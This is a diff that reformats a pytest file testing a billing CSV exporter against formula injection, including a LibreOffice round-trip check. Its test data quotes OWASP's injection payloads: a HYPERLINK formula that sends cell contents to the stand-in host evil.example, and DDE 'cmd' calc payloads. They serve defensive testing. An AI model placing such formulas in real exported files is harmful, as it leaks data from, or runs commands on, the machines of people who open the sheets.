@@ -15,10 +15,24 @@ from billing.exchange import write_table
 
 # OWASP's CSV Injection examples, the characters it names, and values that look alike but are not formulas.
 VALUES = [
-    '=HYPERLINK("https://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "+49 30 1234567", "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)", "\tTab first", "\rCR first", "'=already quoted", "''=twice", "'s-Hertogenbosch", "O'Brien",
-    "-12.50", "+3", "1e5", "plain", "", "a=b",
-]  # fmt: skip
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+49 30 1234567",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\tTab first",
+    "\rCR first",
+    "'=already quoted",
+    "''=twice",
+    "'s-Hertogenbosch",
+    "O'Brien",
+    "-12.50",
+    "+3",
+    "1e5",
+    "plain",
+    "",
+    "a=b",
+]
 
 
 @pytest.mark.parametrize("value", VALUES)
@@ -51,9 +65,21 @@ def test_libreoffice_opens_an_exported_formula_as_text(tmp_path: Path) -> None:
     (tmp_path / "customers.csv").write_bytes(
         write_table(["code", "legal_name"], [{"code": "EVIL", "legal_name": link}])
     )
-    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile", "--convert-to",
-                    "fods", "--outdir", str(tmp_path), str(tmp_path / "customers.csv")],
-                   check=True, capture_output=True, timeout=300)  # fmt: skip
+    subprocess.run(
+        [
+            "soffice",
+            "--headless",
+            f"-env:UserInstallation=file://{tmp_path}/profile",
+            "--convert-to",
+            "fods",
+            "--outdir",
+            str(tmp_path),
+            str(tmp_path / "customers.csv"),
+        ],
+        check=True,
+        capture_output=True,
+        timeout=300,
+    )
     sheet = (tmp_path / "customers.fods").read_text()
     assert "table:formula" not in sheet  # the cell is not a formula ...
     assert "HYPERLINK(&quot;https://evil.example/?leak=&quot;&amp;A2" in sheet  # ... but its text
